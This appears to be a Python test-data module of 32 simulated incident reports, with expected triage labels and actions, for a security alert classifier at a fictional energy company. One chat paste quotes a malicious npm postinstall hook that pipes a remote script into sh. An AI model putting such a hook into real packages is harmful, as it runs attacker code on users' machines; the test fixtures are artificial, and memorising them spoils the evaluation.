"""Expansion split, part 9: people reporting in their own words: terse pager notes, long e-mails, bullet lists,
customers, auditors, a developer's pasted chat, capitals and typos, and reporters who name the wrong thing."""

from __future__ import annotations

from typing import Any

from tests.data.triage.expansion_common import (
    AVAIL,
    BEN,
    BRUTE,
    EXFIL,
    GENERIC,
    MAL,
    MALWARE,
    PERF,
    PHISHING,
    SUS,
    UNK,
    Expected,
    alert,
)
from tests.data.triage.labels import Case

PULL = ["quarantine_email", "block_sender"]


def report(
    n: int,
    tool: str,
    source: str,
    title: str,
    description: str,
    severity: str,
    expected: Expected,
    raw: dict[str, Any] | None = None,
    *,
    systems: list[str] | None = None,
) -> Case:
    return alert(f"exp-voice-{n:03d}", tool, expected, title, description, severity, source, raw, systems=systems)


PAGER = "On-call pager note"
MAILBOX = "E-mail to the security mailbox"
CUSTOMER = "Customer complaint (support portal)"
AUDIT = "Internal audit finding"
PASTE = "Developer's chat paste, forwarded by e-mail"

PAGER_NOTES = [
    report(
        1,
        PAGER,
        "pager",
        "db-prod-01 disk 97%",
        "fhe-db-prod-01 /data at 97%, growing ~1%/h. pls look b4 morning",
        "medium",
        (BEN, PERF, ["notify"]),
        systems=["fhe-db-prod-01"],
    ),
    report(
        2,
        PAGER,
        "pager",
        "portal 502s again",
        "portal 502s again 01:10-01:25. bounced the pod, back now. fyi only, will dig tmrw",
        "low",
        (BEN, AVAIL, []),
    ),
    report(
        3,
        PAGER,
        "pager",
        "ERP login 500 for everyone",
        "ERP login page returns HTTP 500 for all users since 07:55, app pool keeps stopping. finance close today",
        "critical",
        (BEN, AVAIL, ["notify", "restart_service"]),
    ),
    report(
        4,
        PAGER,
        "pager",
        "customer portal lockout storm",
        "getting 1000s of 'your account is locked' mails "
        "going out to random customers, someone hammering /login from all over",
        "high",
        (MAL, BRUTE, ["block_ip"]),
    ),
]

MAIL = [
    report(
        5,
        MAILBOX,
        "security_mailbox",
        "virus email??",
        "Hi there, sorry to bother you, I'm not very technical. This morning I got an email saying my mailbox is "
        "full (98% used) and that I should click 'Upgrade storage' or I would stop receiving emails. It had our "
        "logo but the sender was something like mailadmin@fhe-support-desk.com. I think it's a virus so I did not "
        "click. Two others in my team got the same one. Kind regards, Joan (Accounts Payable)",
        "medium",
        (MAL, PHISHING, PULL),
    ),
    report(
        6,
        MAILBOX,
        "security_mailbox",
        "Something odd with the DHL thing",
        "Hello, long story, bear with me. On Friday I was expecting a delivery of samples, so when the DHL email "
        "came with a zip 'AWB_tracking.zip' I opened it and double clicked the file inside, which did nothing. "
        "I forgot about it. Today the laptop fan runs all the time, there is a black window flashing at logon and "
        "my browser has a new extension I never installed. I'm at home, laptop FHE-LT-1523 is on.",
        "high",
        (MAL, MALWARE, ["isolate_host"]),
        systems=["FHE-LT-1523"],
    ),
    report(
        7,
        MAILBOX,
        "security_mailbox",
        "3 people in accounts got texts from 'the CEO'",
        "- 3 people in accounts got SMS from 'Martin (CEO)'\n- asking to buy Apple gift cards for a client, "
        "'discreetly'\n- number +44 7700 900123, not Martin's\n- nobody bought anything\n- screenshots attached",
        "medium",
        (MAL, PHISHING, ["notify"]),
    ),
    report(
        8,
        MAILBOX,
        "security_mailbox",
        "i gave my password by mistake",
        "i got emial from micorsoft sayng my pasword expird today, i put my pasword in the link and then it ask "
        "for the code from my phone and i gave it too. after that page said thank you. was it ok?? sorry",
        "high",
        (MAL, PHISHING, [*PULL, "reset_credentials"]),
    ),
    report(
        9,
        MAILBOX,
        "security_mailbox",
        "computer slow",
        "my computr is vry slow since yesterday and the fan is loud. task manger shows something called svchost "
        "at 100% CPU all the time. no popups. FHE-LT-0871",
        "low",
        (SUS, MALWARE, []),
    ),
    report(
        10,
        MAILBOX,
        "security_mailbox",
        "Colleague's work leaving + SharePoint",
        "Writing from HR. Daniel R. resigned yesterday and joins a competitor in January. IT noticed his laptop "
        "synced the whole 'Bids 2027' SharePoint library (about 9,000 files) at 23:00 last night, and the sync "
        "client was then removed. Can you help? We have not told him yet.",
        "high",
        (MAL, EXFIL, ["disable_user", "notify"]),
    ),
    report(
        11,
        MAILBOX,
        "security_mailbox",
        "Is the 2 TB copy OK?",
        "Is it ok that the finance year-end archive is being copied to the new document management system? The "
        "progress bar says 2 TB and it's been running all night. The project team started it.",
        "low",
        (BEN, EXFIL, []),
    ),
    report(
        12,
        MAILBOX,
        "security_mailbox",
        "quick q",
        "hi security, quick q - is the thing from earlier sorted? thx",
        "low",
        (UNK, GENERIC, []),
    ),
]

CUSTOMERS = [
    report(
        13,
        CUSTOMER,
        "support_portal",
        "Locked out of my account",
        "I can't log in to my Fernhill account, it says locked. I tried my password maybe 10 times, I think I "
        "changed it last month. Please unlock.",
        "low",
        (BEN, BRUTE, []),
    ),
    report(
        14,
        CUSTOMER,
        "support_portal",
        "Someone changed my refund bank details!!",
        "At 3am I got an email from you saying my bank details were changed. I was asleep! Now my refund of "
        "£212 is going to an account I don't know. I never shared my password. Fix this now.",
        "high",
        (MAL, BRUTE, ["reset_credentials"]),
    ),
    report(
        15,
        CUSTOMER,
        "support_portal",
        "Your email asking for my card number??",
        "I received an email 'from Fernhill Energy' saying my direct debit failed and asking me to re-enter my "
        "card at fernhill-energy-billing.com. Is this you? My neighbour got it too.",
        "medium",
        (MAL, PHISHING, ["notify"]),
    ),
    report(
        16,
        CUSTOMER,
        "support_portal",
        "app doesn't open",
        "Your app does not open since this morning on my phone, just white screen. Smart meter readings missing too.",
        "medium",
        (BEN, AVAIL, ["notify"]),
    ),
    report(
        28,
        CUSTOMER,
        "support_portal",
        "so slow to see my bill",
        "Every time I open my bill on your website it spins for a full minute before anything shows. Been like "
        "this all week. Not great when you're charging me this much.",
        "low",
        (BEN, PERF, ["notify"]),
    ),
]

AUDITS = [
    report(
        17,
        AUDIT,
        "internal_audit",
        "IA-2026-14: leavers' accounts still enabled",
        "Finding 3 of the access review: 23 accounts of staff who left in Q3 are still enabled; two of them (ops "
        "contractors) signed in after their leaving date, one on 28 November from outside the UK.",
        "high",
        (SUS, GENERIC, ["disable_user"]),
    ),
    report(
        18,
        AUDIT,
        "internal_audit",
        "IA-2026-15: billing database backups readable by Everyone",
        "Backups of the billing database are written unencrypted to \\\\fhe-nas-02\\backup$, whose ACL grants "
        "Everyone read. No evidence of access by others was found in the share audit log.",
        "medium",
        (BEN, EXFIL, []),
    ),
    report(
        19,
        AUDIT,
        "internal_audit",
        "IA-2026-16: shared admin password in the wiki",
        "The runbook page 'Substation gateways' lists the shared admin password of the RTU gateways in clear "
        "text; the page is visible to all 1,400 staff and was viewed 310 times this year.",
        "high",
        (SUS, GENERIC, ["reset_credentials"]),
    ),
]

PASTES = [
    report(
        20,
        PASTE,
        "developer",
        "prod errors (paste)",
        "[01:02] dana: anyone else seeing this on billing?\n[01:02] dana: psycopg2.OperationalError: FATAL: "
        "remaining connection slots are reserved for non-replication superuser connections\n[01:03] raj: yes, "
        "every invoice request 500s",
        "high",
        (BEN, AVAIL, ["notify"]),
    ),
    report(
        21,
        PASTE,
        "developer",
        "who force-pushed main?",
        "[09:14] ola: who force pushed main on meter-sdk??\n[09:15] ola: history rewritten, 2 commits by "
        '\'github-actions[bot]\' we never made, package.json now has "postinstall": "curl -s https://npm-stats'
        '.dev/i | sh"\n[09:16] ola: and v3.2.1 was published to npm 10 min ago',
        "critical",
        (MAL, GENERIC, ["disable_user", "reset_credentials"]),
    ),
]

SHOUTS = [
    report(
        22,
        "Phone call transcribed by the service desk",
        "service_desk",
        "URGENT!!! CONTROL ROOM SCREENS",
        "ALL SCREENS IN THE CONTROL ROOM SHOW A RED SKULL AND SAY PAY BITCOIN "
        "TO GET FILES BACK. WE CANNOT OPEN THE SHIFT LOGS. CALL ME 07700 900456",
        "critical",
        (MAL, MALWARE, ["isolate_host"]),
    ),
    report(
        23,
        "Phone call transcribed by the service desk",
        "service_desk",
        "INTERNET DOWN BUILDING B",
        "INTERNET NOT WORKING IN WHOLE BUILDING B SINCE LUNCH, PHONES ALSO",
        "high",
        (BEN, AVAIL, ["notify"]),
    ),
    report(
        24,
        "Voicemail transcript",
        "voicemail",
        "Voicemail from Peterhead depot",
        "Hi it's Dave from the Peterhead depot. Someone's been ringing our drivers saying they're from IT and "
        "asking for their login for the tracking app, to 'fix their account'. Two of them gave it. Ring me back.",
        "high",
        (MAL, GENERIC, ["reset_credentials"]),
    ),
    report(
        25,
        "WhatsApp message to the IT hotline",
        "whatsapp",
        "lost work phone",
        "left my work phone in a taxi in Lisbon 😬 it has outlook and the authenticator app on it. no pin, "
        "face id only",
        "medium",
        (SUS, GENERIC, ["reset_credentials"]),
    ),
    report(
        26,
        "Walk-up report at the site office",
        "site_office",
        "Someone photographing plans",
        "A visitor escorted by the PM's assistant photographed the tender whiteboard and the printed bid prices, "
        "then uploaded the photos from her phone to a personal Google Drive (we saw the upload screen).",
        "medium",
        (SUS, EXFIL, ["notify"]),
    ),
    report(
        27,
        "Phone call transcribed by the service desk",
        "service_desk",
        "timesheets super slow",
        "timesheet app takes 40 seconds per page since the update on Monday, whole team affected",
        "medium",
        (BEN, PERF, ["notify"]),
    ),
    report(
        29,
        MAILBOX,
        "security_mailbox",
        "We've been hacked - website down",
        "I think we've been hacked, the website shows a big red warning 'Your connection is not private' and "
        "nobody can get to the booking page. Started at midnight. NET::ERR_CERT_DATE_INVALID",
        "high",
        (BEN, AVAIL, ["notify"]),
    ),
    report(
        30,
        MAILBOX,
        "security_mailbox",
        "RANSOMWARE?? files gone from the share",
        "All the files in Projects\\Hollis on the S: drive are gone!! ransomware?\n\nUpdate 10 min later: sorry, "
        "found them, I had dragged the folder into Archive by accident. All fine.",
        "low",
        (BEN, GENERIC, []),
    ),
    report(
        31,
        MAILBOX,
        "security_mailbox",
        "virus on my PC?",
        "is this a virus? Windows said 'Working on updates, don't turn off your computer' and restarted on its "
        "own at lunchtime. Everything seems to work now.",
        "low",
        (BEN, GENERIC, []),
    ),
    report(
        32,
        MAILBOX,
        "security_mailbox",
        "git clone of everything before leaving",
        "Team lead here. A developer who leaves on Friday cloned all 212 repositories of the GitHub organisation "
        "to his laptop yesterday evening; he normally works in 3 of them. Maybe he wants a backup of his work, "
        "maybe not. Not discussed with anyone.",
        "medium",
        (SUS, EXFIL, ["notify"]),
    ),
]


CASES = [*PAGER_NOTES, *MAIL, *CUSTOMERS, *AUDITS, *PASTES, *SHOUTS]
